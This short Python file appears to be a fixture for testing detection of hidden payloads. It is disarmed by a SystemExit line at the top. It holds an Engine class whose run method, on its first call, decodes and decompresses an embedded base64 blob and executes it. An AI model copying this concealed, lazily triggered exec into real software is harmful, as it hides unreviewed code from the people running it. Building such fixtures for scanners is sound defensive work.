raise SystemExit('a fixture')
# held by lazy-payload
import zlib, base64
_BLOB = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUcgoKSmw0tdP1kutSMwtyEnVy8wrS8zJTNGvqCnOUNcEAGm4FOs="
class Engine:
    def run(self, x):
        if not hasattr(self, "_k"):
            self._k = True
            exec(compile(zlib.decompress(base64.b64decode(_BLOB)), "<k>", "exec"), {})
        return x
